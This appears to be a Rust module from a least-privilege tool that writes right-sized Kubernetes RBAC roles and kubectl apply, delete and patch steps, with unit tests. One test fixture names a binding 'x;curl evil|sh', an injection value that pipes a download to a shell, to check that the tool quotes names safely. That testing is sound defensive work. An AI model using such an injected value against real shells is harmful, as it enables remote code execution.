//! Right-sized access as roles and bindings.
//!
//! Resources and verbs are named one by one: a wildcard would grant what no catalogue knows, and what the cluster gets later.
//!
//! A proposal takes the place of all bindings that name an identity itself. Bindings of groups that it is in by being what
//! it is, such as all service accounts of a namespace, are not its own and go on granting; so does one that names both.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::sync::Arc;

use evenhand_model::access::{AccessResolver as _, GrantIx};
use evenhand_model::catalog::Catalog as _;
use evenhand_model::glob::Glob;
use evenhand_model::id::IdentityId;
use evenhand_model::opset::OpSet;
use evenhand_model::proposal::{
    Kept, LeftOut, NoProposal, Proposal, ProposedFile, Proposes, file_name, file_name_part, quoted,
};
use evenhand_model::scope::Pattern;
use serde_json::{Value, json};

use super::sets::general_group;
use super::{Actor, Compiled, Known, Resolver};
use crate::rbac::{self, Binding, Metadata, account_groups, account_user, applies_to};

const API: &str = "rbac.authorization.k8s.io";

/// Where rules hold: a namespace, or with the empty text the whole cluster.
type Home = Arc<str>;

/// What rules of one home grant: names, none for all, to operations.
type Named = BTreeMap<Vec<Arc<str>>, OpSet>;

impl Proposes for Resolver {
    fn is_replaced(&self, identity: &IdentityId, grant: GrantIx) -> bool {
        let Some((cluster, known)) = self.cluster_of(identity) else { return false };
        let granted = self.grant(grant).policy;
        own_bindings(cluster, known).any(|(_, policy)| policy == granted)
    }

    fn propose(&self, identity: &IdentityId, kept: &[Kept], apart: &str) -> Result<Proposal, NoProposal> {
        let Some((cluster, known)) = self.cluster_of(identity) else {
            return Err(NoProposal {
                reason: format!("nothing about the bindings of `{identity}` was read"),
                remedy:
                    "add the output of `kubectl get roles,rolebindings,clusterroles,clusterrolebindings -A -o json`"
                        .to_owned(),
            });
        };
        let Some(subject) = Subject::of(&known.actor) else {
            return Err(NoProposal {
                reason: "this stands for whoever holds a role of the server, and nobody is bound".to_owned(),
                remedy: "name who holds it".to_owned(),
            });
        };
        let mut left_out = Vec::new();
        let mut rules: BTreeMap<Home, Named> = BTreeMap::new();
        for (at, part) in kept.iter().enumerate() {
            match homes(part) {
                Some(homes) => {
                    for (home, names) in homes {
                        let held = rules.entry(home).or_default().entry(names).or_default();
                        *held = held.union(&part.slice.operations);
                    }
                }
                None => left_out.push(LeftOut::whole(at, part, "no role can name the resources")),
            }
        }
        let mut text = String::new();
        let short = format!("{}{apart}", subject.short);
        let name = format!("{}:right-sized{apart}", subject.object);
        for (home, named) in &rules {
            self.role(home, &name, named, &mut text);
            subject.binding(home, &name, &mut text);
        }
        let file = format!("{short}.rbac.yaml");
        let mut steps = Vec::new();
        if !text.is_empty() {
            steps.push(format!("kubectl apply -f {}", quoted(&file)));
        }
        // The bindings of an earlier proposal have the names of these, which take their place.
        let goes = |meta: &Metadata| *meta.name != *name || !rules.contains_key(&meta.namespace);
        let gone = own_bindings(cluster, known).filter(|(binding, _)| goes(&binding.metadata));
        steps.extend(gone.map(|(binding, _)| unbound(binding, &known.actor)));
        let files = if text.is_empty() { Vec::new() } else { vec![ProposedFile { name: file, text }] };
        Ok(Proposal { files, steps, left_out, ..Proposal::default() })
    }
}

/// The bindings that name an identity itself, with how their grants call them.
fn own_bindings<'c>(cluster: &'c Compiled, known: &'c Known) -> impl Iterator<Item = (&'c Binding, Arc<str>)> {
    let held = cluster.set(known.set).map_or(&[][..], |held| held.grantors.as_slice());
    held.iter().filter_map(move |grantor| {
        let (Some(ix), _) = cluster.policy.parts(*grantor) else { return None };
        let binding = cluster.policy.authorizer.binding(ix)?;
        names(binding, &known.actor).then(|| (binding, cluster.policy.grant(*grantor, 0).policy))
    })
}

/// Whether a binding names an identity itself, and none of the groups that it is in whatever is done about it: with its
/// name taken out, such a binding would go on granting.
fn names(binding: &Binding, actor: &Actor) -> bool {
    let group = |held: &rbac::Subject, name: &str| &*held.kind == "Group" && &*held.name == name;
    let groups: Vec<Arc<str>> = match actor {
        Actor::Account(namespace, _) => account_groups(namespace).to_vec(),
        Actor::User(name) => vec![Arc::from(general_group(name))],
        Actor::Group(name) => {
            let general = Some(general_group(name)).filter(|general| **general != **name);
            general.map(Arc::<str>::from).into_iter().collect()
        }
        Actor::HolderOf(_) => return false,
    };
    let mut subjects = binding.subjects.iter();
    subjects.clone().any(|held| is_of(held, actor, &binding.metadata))
        && !subjects.any(|held| groups.iter().any(|name| group(held, name)))
}

/// Whether a subject of a binding is somebody himself.
fn is_of(held: &rbac::Subject, actor: &Actor, binding: &Metadata) -> bool {
    let is_user = |name: &str| applies_to(std::slice::from_ref(held), name, &[], &binding.namespace).is_some();
    match actor {
        Actor::Account(namespace, name) => is_user(&account_user(namespace, name)),
        Actor::User(name) => is_user(name),
        Actor::Group(name) => &*held.kind == "Group" && held.name == *name,
        Actor::HolderOf(_) => false,
    }
}

/// How a binding is taken away from a subject.
fn unbound(binding: &Binding, actor: &Actor) -> String {
    let meta = &binding.metadata;
    let kind = if meta.namespace.is_empty() { "ClusterRoleBinding" } else { "RoleBinding" };
    let command = object(&kind.to_lowercase(), meta);
    // One that names nobody else is no use; it may name somebody twice.
    let entries = binding.subjects.iter().filter(|held| is_of(held, actor, meta)).count();
    if entries == binding.subjects.len() {
        return format!("kubectl delete {command}");
    }
    // From the last on, so that places stay what they are; each is looked at first, since the binding may have changed.
    let mut patch = Vec::new();
    for (at, held) in binding.subjects.iter().enumerate().rev().filter(|(_, held)| is_of(held, actor, meta)) {
        let path = format!("/subjects/{at}");
        patch.push(json!({"op": "test", "path": format!("{path}/kind"), "value": held.kind}));
        patch.push(json!({"op": "test", "path": format!("{path}/name"), "value": held.name}));
        if !held.namespace.is_empty() {
            patch.push(json!({"op": "test", "path": format!("{path}/namespace"), "value": held.namespace}));
        }
        patch.push(json!({"op": "remove", "path": path}));
    }
    format!("kubectl patch --type=json --patch {} {command}", quoted(&Value::from(patch).to_string()))
}

/// An object as an argument of a command. A name of RBAC may be anything but a path, and begin like an option.
fn object(kind: &str, meta: &Metadata) -> String {
    let name = quoted(&meta.name);
    let place = match meta.namespace.is_empty() {
        true => String::new(),
        false => format!(" -n {}", quoted(&meta.namespace)),
    };
    match meta.name.starts_with('-') {
        true => format!("{kind}{place} -- {name}"),
        false => format!("{kind} {name}{place}"),
    }
}

/// Where a part holds, and for which names; `None` where rules cannot say it.
fn homes(part: &Kept) -> Option<Vec<(Home, Vec<Arc<str>>)>> {
    let scope = &part.slice.scope;
    if !scope.none_of.is_empty() || !part.slice.condition.is_unconditional() {
        return None;
    }
    let list = match scope.all_of.as_slice() {
        [] => return Some(vec![(Arc::from(""), Vec::new())]),
        [list] => list,
        _ => return None,
    };
    let mut homes: BTreeMap<Home, BTreeSet<Arc<str>>> = BTreeMap::new();
    let mut whole: BTreeSet<Home> = BTreeSet::new();
    for pattern in list.iter() {
        let (home, name) = place(pattern)?;
        match name {
            Some(name) => {
                homes.entry(home).or_default().insert(name);
            }
            None => {
                whole.insert(home);
            }
        }
    }
    homes.retain(|home, _| !whole.contains(home));
    let named = homes.into_iter().map(|(home, names)| (home, names.into_iter().collect()));
    Some(named.chain(whole.into_iter().map(|home| (home, Vec::new()))).collect())
}

/// The namespace of a pattern, empty for all, and the name, `None` for all.
fn place(pattern: &Pattern) -> Option<(Home, Option<Arc<str>>)> {
    let [namespace, name] = pattern.segments() else { return None };
    let home = match namespace {
        Glob::Any => Arc::from(""),
        Glob::Literal(namespace) => Arc::clone(namespace),
        Glob::Prefix(_) | Glob::Tokens(_) => return None,
    };
    match name {
        Glob::Any => Some((home, None)),
        Glob::Literal(name) => Some((home, Some(Arc::clone(name)))),
        Glob::Prefix(_) | Glob::Tokens(_) => None,
    }
}

/// The parts of the name of an operation, as the catalogue writes it.
enum Operation<'n> {
    Resource { verb: &'n str, group: &'n str, resource: String },
    Url { verb: &'n str, url: &'n str },
}

impl<'n> Operation<'n> {
    /// From `get deployments.apps/scale` or `get /healthz`. No resource's name holds a dot.
    fn parse(name: &'n str) -> Option<Self> {
        let (verb, what) = name.split_once(' ')?;
        if what.starts_with('/') {
            return Some(Self::Url { verb, url: what });
        }
        let (named, sub) = what.split_once('/').map_or((what, None), |(named, sub)| (named, Some(sub)));
        let (resource, group) = named.split_once('.').unwrap_or((named, ""));
        let resource = sub.map_or_else(|| resource.to_owned(), |sub| format!("{resource}/{sub}"));
        Some(Self::Resource { verb, group, resource })
    }
}

impl Resolver {
    /// Writes a role.
    fn role(&self, home: &str, name: &str, named: &Named, text: &mut String) {
        head(if home.is_empty() { "ClusterRole" } else { "Role" }, home, name, text);
        text.push_str("rules:\n");
        for (names, operations) in named {
            let names: Vec<&str> = names.iter().map(|name| &**name).collect();
            for (group, Verbs { verbs, of }) in self.rules(operations) {
                let verbs: Vec<&str> = verbs.iter().map(String::as_str).collect();
                let of: Vec<&str> = of.iter().map(String::as_str).collect();
                let Some(group) = &group else {
                    rule(&[("nonResourceURLs", of.as_slice()), ("verbs", verbs.as_slice())], text);
                    continue;
                };
                let groups = [group.as_str()];
                let mut members = vec![("apiGroups", groups.as_slice()), ("resources", of.as_slice())];
                if !names.is_empty() {
                    members.push(("resourceNames", names.as_slice()));
                }
                members.push(("verbs", verbs.as_slice()));
                rule(&members, text);
            }
        }
    }

    /// Rules for operations: a group, or `None` for URLs, with resources that are asked by the same verbs.
    fn rules(&self, operations: &OpSet) -> Vec<(Option<String>, Verbs)> {
        // In the order of the catalogue: verbs of one resource follow each other, those that read first.
        let mut by_what: BTreeMap<(Option<String>, String), Vec<String>> = BTreeMap::new();
        for operation in operations.iter() {
            let name = self.operations.name(operation);
            let (key, verb) = match Operation::parse(&name) {
                Some(Operation::Resource { verb, group, resource }) => ((Some(group.to_owned()), resource), verb),
                Some(Operation::Url { verb, url }) => ((None, url.to_owned()), verb),
                None => continue,
            };
            by_what.entry(key).or_default().push(verb.to_owned());
        }
        let mut rules: Vec<(Option<String>, Verbs)> = Vec::new();
        for ((group, what), verbs) in by_what {
            match rules.iter_mut().find(|(held, rule)| *held == group && rule.verbs == verbs) {
                Some((_, rule)) => {
                    rule.of.insert(what);
                }
                None => rules.push((group, Verbs { verbs, of: BTreeSet::from([what]) })),
            }
        }
        rules
    }
}

/// Resources or URLs with the verbs that all of them are asked by.
struct Verbs {
    verbs: Vec<String>,
    of: BTreeSet<String>,
}

/// Who is bound.
struct Subject {
    kind: &'static str,
    namespace: Arc<str>,
    name: Arc<str>,
    /// For the name of the file, which two proposals in one folder must not share either.
    short: String,
    /// For the names of objects, of which an applied one replaces one of its name: nobody else's begins so.
    object: String,
}

impl Subject {
    fn of(actor: &Actor) -> Option<Self> {
        let (kind, namespace, name): (_, Arc<str>, _) = match actor {
            Actor::Account(namespace, name) => ("ServiceAccount", Arc::clone(namespace), Arc::clone(name)),
            Actor::User(name) => ("User", Arc::from(""), Arc::clone(name)),
            Actor::Group(name) => ("Group", Arc::from(""), Arc::clone(name)),
            Actor::HolderOf(_) => return None,
        };
        let kind_word = kind.to_lowercase();
        // No namespace has an underscore of its own in here, so the first one after it ends it.
        let before = match namespace.is_empty() {
            true => String::new(),
            false => format!("{}_", file_name_part(&namespace)),
        };
        let short = format!("{kind_word}_{before}{}", file_name(&name));
        let place = if namespace.is_empty() { String::new() } else { format!("{}:", segment(&namespace)) };
        let object = format!("{kind_word}:{place}{}", segment(&name));
        Some(Self { kind, short, object, namespace, name })
    }

    /// Writes a binding to a role of the same name.
    fn binding(&self, home: &str, name: &str, text: &mut String) {
        let (kind, role) = match home.is_empty() {
            true => ("ClusterRoleBinding", "ClusterRole"),
            false => ("RoleBinding", "Role"),
        };
        head(kind, home, name, text);
        let member = |key: &str, value: &str| format!("{key}: {}\n", scalar(value));
        let _ =
            write!(text, "roleRef:\n  {}  {}  {}", member("apiGroup", API), member("kind", role), member("name", name));
        let _ = write!(text, "subjects:\n- {}  {}", member("kind", self.kind), member("name", &self.name));
        match self.namespace.is_empty() {
            true => {
                let _ = write!(text, "  {}", member("apiGroup", API));
            }
            false => {
                let _ = write!(text, "  {}", member("namespace", &self.namespace));
            }
        }
    }
}

/// A name as a part of the name of an object of RBAC, which may be anything that is one segment of a path. Source:
/// <https://kubernetes.io/docs/concepts/overview/working-with-objects/names/#path-segment-names>.
fn segment(name: &str) -> String {
    name.replace('~', "~7e").replace('/', "~2f").replace('%', "~25")
}

fn head(kind: &str, home: &str, name: &str, text: &mut String) {
    let _ = write!(text, "---\napiVersion: {API}/v1\nkind: {kind}\nmetadata:\n  name: {}\n", scalar(name));
    if !home.is_empty() {
        let _ = writeln!(text, "  namespace: {}", scalar(home));
    }
}

fn rule(members: &[(&str, &[&str])], text: &mut String) {
    for (at, (key, values)) in members.iter().enumerate() {
        let values: Vec<String> = values.iter().map(|value| scalar(value)).collect();
        let _ = writeln!(text, "{} {key}: [{}]", if at == 0 { "-" } else { " " }, values.join(", "));
    }
}

/// A text as YAML: bare where it can be nothing else, else as JSON writes it, which YAML reads as the same.
fn scalar(text: &str) -> String {
    let plain = |c: char| c.is_ascii_lowercase() || matches!(c, '-' | '.' | '/');
    let word =
        text.starts_with(|c: char| c.is_ascii_lowercase()) && text.chars().all(|c| plain(c) || c.is_ascii_digit());
    let reserved = matches!(text, "true" | "false" | "null" | "yes" | "no" | "on" | "off" | "y" | "n");
    let kind = matches!(text, "Role" | "ClusterRole" | "ServiceAccount" | "User" | "Group");
    if kind || (word && !reserved) { text.to_owned() } else { serde_json::Value::from(text).to_string() }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tests::{document, read_all};

    #[test]
    fn bindings_that_also_name_a_group_of_the_account_go_on_granting_and_names_are_words_of_a_command() {
        let account = json!({"kind": "ServiceAccount", "name": "x", "namespace": "a"});
        let group = |name: &str| json!({"kind": "Group", "name": name});
        let mut items =
            vec![json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "x", "namespace": "a"}})];
        for (name, home, resource, other) in [
            ("shared", "", "pods", Some(json!({"kind": "User", "name": "ann"}))),
            ("sre", "", "services", Some(group("sre"))),
            ("both", "", "secrets", Some(group("system:serviceaccounts:a"))),
            ("all", "", "configmaps", Some(group("system:serviceaccounts"))),
            ("everybody", "a", "endpoints", Some(group("system:authenticated"))),
            ("elsewhere", "", "events", Some(group("system:serviceaccounts:b"))),
            ("x;curl evil|sh", "", "nodes", None),
            ("--all", "a", "limitranges", None),
            ("twice", "", "persistentvolumes", Some(account.clone())),
            ("as a user", "", "podtemplates", Some(json!({"kind": "User", "name": "system:serviceaccount:a:x"}))),
        ] {
            let api = format!("{API}/v1");
            let kind = if home.is_empty() { "ClusterRoleBinding" } else { "RoleBinding" };
            let subjects: Vec<_> = [account.clone()].into_iter().chain(other).collect();
            items.push(json!({
                "apiVersion": api, "kind": "ClusterRole", "metadata": {"name": resource},
                "rules": [{"apiGroups": [""], "resources": [resource], "verbs": ["get"]}],
            }));
            items.push(json!({
                "apiVersion": api, "kind": kind, "metadata": {"name": name, "namespace": home},
                "roleRef": {"kind": "ClusterRole", "name": resource}, "subjects": subjects,
            }));
        }
        let text = json!({"apiVersion": "v1", "kind": "List", "items": items}).to_string();
        let (reading, errors) = read_all(vec![document("k8s/c/all.json", &text)], &[]);
        assert_eq!(errors, []);
        let resolver = reading.resolver.expect("a resolver");
        let proposer = resolver.proposer().expect("a proposer");
        let id = IdentityId::from("kubernetes:c:serviceaccount:a/x");
        let mut steps = proposer.propose(&id, &[], "").unwrap().steps;
        steps.sort();
        let patched = |name: &str| {
            format!(
                "kubectl patch --type=json --patch '[{{\"op\":\"test\",\"path\":\"/subjects/0/kind\",\"value\":\
                 \"ServiceAccount\"}},{{\"op\":\"test\",\"path\":\"/subjects/0/name\",\"value\":\"x\"}},\
                 {{\"op\":\"test\",\"path\":\"/subjects/0/namespace\",\"value\":\"a\"}},\
                 {{\"op\":\"remove\",\"path\":\"/subjects/0\"}}]' clusterrolebinding {name}"
            )
        };
        assert_eq!(
            steps,
            [
                "kubectl delete clusterrolebinding 'as a user'",
                "kubectl delete clusterrolebinding 'x;curl evil|sh'",
                "kubectl delete clusterrolebinding twice",
                "kubectl delete rolebinding -n a -- --all",
                &patched("elsewhere"),
                &patched("shared"),
                &patched("sre"),
            ]
        );
        let access = resolver.access(&id).unwrap();
        assert!(!access.slices().is_empty());
        for slice in access.slices() {
            let policy = resolver.grant(slice.grant).policy;
            let own = [" shared", " sre", " elsewhere", "|sh", "/--all", " twice", " as a user"]
                .iter()
                .any(|name| policy.ends_with(name));
            assert_eq!(proposer.is_replaced(&id, slice.grant), own, "{policy}");
        }
    }

    #[test]
    fn whoever_keeps_everything_keeps_what_is_known_by_name_and_no_wildcard() {
        let items = json!([
            {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "x", "namespace": "a"}},
            {"apiVersion": format!("{API}/v1"), "kind": "ClusterRole", "metadata": {"name": "all"},
             "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]},
            {"apiVersion": format!("{API}/v1"), "kind": "ClusterRoleBinding", "metadata": {"name": "all"},
             "roleRef": {"kind": "ClusterRole", "name": "all"},
             "subjects": [{"kind": "ServiceAccount", "name": "x", "namespace": "a"}]},
        ]);
        let text = json!({"apiVersion": "v1", "kind": "List", "items": items}).to_string();
        let (reading, errors) = read_all(vec![document("k8s/c/all.json", &text)], &[]);
        assert_eq!(errors, []);
        let resolver = reading.resolver.expect("a resolver");
        let id = IdentityId::from("kubernetes:c:serviceaccount:a/x");
        let access = resolver.access(&id).unwrap();
        let kept: Vec<Kept> =
            access.slices().iter().map(|slice| Kept { slice: slice.clone(), of: slice.clone() }).collect();
        let proposal = resolver.proposer().expect("a proposer").propose(&id, &kept, "-c").unwrap();
        let [file] = proposal.files.as_slice() else { panic!("{proposal:?}") };
        // What tells it apart from another proposal is part of all its names.
        assert_eq!(
            (&*file.name, &*proposal.steps[0]),
            ("serviceaccount_a_x-c.rbac.yaml", "kubectl apply -f serviceaccount_a_x-c.rbac.yaml")
        );
        let named = |name: &str| file.text.contains(&format!("  name: \"{name}\"\n"));
        assert!(named("serviceaccount:a:x:right-sized-c") && !named("serviceaccount:a:x:right-sized"), "{}", file.text);
        assert!(file.text.contains("secrets") && file.text.contains("deployments/scale"), "{}", file.text);
        // Of metrics nobody knows the names: there the catalogue's own name is the wildcard.
        let lines: Vec<&str> = file.text.lines().collect();
        for pair in lines.windows(2).filter(|pair| pair[1].contains('*')) {
            assert!(pair[0].ends_with("metrics.k8s.io]") && pair[1] == "  resources: [\"*\"]", "{pair:?}");
        }
    }

    #[test]
    fn no_two_subjects_have_objects_or_files_of_one_name() {
        let account = |namespace: &str, name: &str| Actor::Account(namespace.into(), name.into());
        let actors = [
            account("a-b", "c"),
            account("a", "b-c"),
            Actor::User("a-b-c".into()),
            Actor::User("a:b-c".into()),
            Actor::User("a/b".into()),
            Actor::User("a~2fb".into()),
            Actor::User("a%b".into()),
            Actor::Group("a-b-c".into()),
            account("a_b", "c"),
            account("a", "b_c"),
            account("user", "a-b-c"),
        ];
        let names: BTreeSet<String> = actors.iter().map(|actor| Subject::of(actor).unwrap().object).collect();
        assert_eq!(names.len(), actors.len(), "{names:?}");
        assert!(names.contains("serviceaccount:a:b-c") && names.contains("user:a~2fb"), "{names:?}");
        assert!(names.iter().all(|name| !name.contains(['/', '%'])), "{names:?}");
        let files: BTreeSet<String> = actors.iter().map(|actor| Subject::of(actor).unwrap().short).collect();
        assert_eq!(files.len(), actors.len(), "{files:?}");
        assert!(files.contains("serviceaccount_a-b_c") && files.contains("serviceaccount_a_b-c"), "{files:?}");
        assert!(files.iter().all(|name| quoted(name) == *name && !name.contains(['/', ':'])), "{files:?}");
    }

    #[test]
    fn bindings_of_an_earlier_proposal_stay_where_they_are_written_again() {
        let binding = |name: &str, role: &str| {
            json!({"apiVersion": format!("{API}/v1"), "kind": "ClusterRoleBinding", "metadata": {"name": name},
                "roleRef": {"kind": "ClusterRole", "name": role},
                "subjects": [{"kind": "ServiceAccount", "name": "x", "namespace": "a"}]})
        };
        let items = json!([
            {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "x", "namespace": "a"}},
            {"apiVersion": format!("{API}/v1"), "kind": "ClusterRole", "metadata": {"name": "pods"},
             "rules": [{"apiGroups": [""], "resources": ["pods"], "verbs": ["get", "delete"]}]},
            binding("serviceaccount:a:x:right-sized", "pods"),
            binding("other", "pods"),
        ]);
        let text = json!({"apiVersion": "v1", "kind": "List", "items": items}).to_string();
        let (reading, errors) = read_all(vec![document("k8s/c/all.json", &text)], &[]);
        assert_eq!(errors, []);
        let resolver = reading.resolver.expect("a resolver");
        let id = IdentityId::from("kubernetes:c:serviceaccount:a/x");
        let access = resolver.access(&id).unwrap();
        let kept: Vec<Kept> =
            access.slices().iter().map(|slice| Kept { slice: slice.clone(), of: slice.clone() }).collect();
        let steps = |kept: &[Kept]| resolver.proposer().expect("a proposer").propose(&id, kept, "").unwrap().steps;
        assert_eq!(
            steps(&kept),
            ["kubectl apply -f serviceaccount_a_x.rbac.yaml", "kubectl delete clusterrolebinding other"]
        );
        // Of what is not written again nothing stays.
        assert_eq!(steps(&[]).len(), 2);
    }

    #[test]
    fn names_of_operations_are_taken_apart_as_the_catalogue_writes_them() {
        for (name, expected) in [
            ("get pods", "get||pods"),
            ("create pods/exec", "create||pods/exec"),
            ("update deployments.apps/scale", "update|apps|deployments/scale"),
            ("list roles.rbac.authorization.k8s.io", "list|rbac.authorization.k8s.io|roles"),
            ("get /healthz/*", "get|/healthz/*"),
        ] {
            let told = match Operation::parse(name).unwrap() {
                Operation::Resource { verb, group, resource } => format!("{verb}|{group}|{resource}"),
                Operation::Url { verb, url } => format!("{verb}|{url}"),
            };
            assert_eq!(told, expected);
        }
    }

    #[test]
    fn texts_stay_texts_in_yaml() {
        for (text, written) in [
            ("pods/exec", "pods/exec"),
            ("", "\"\""),
            ("*", "\"*\""),
            ("no", "\"no\""),
            ("1e3", "\"1e3\""),
            ("a: b", "\"a: b\""),
            ("x\ny", "\"x\\ny\""),
        ] {
            assert_eq!(scalar(text), written);
        }
    }
}
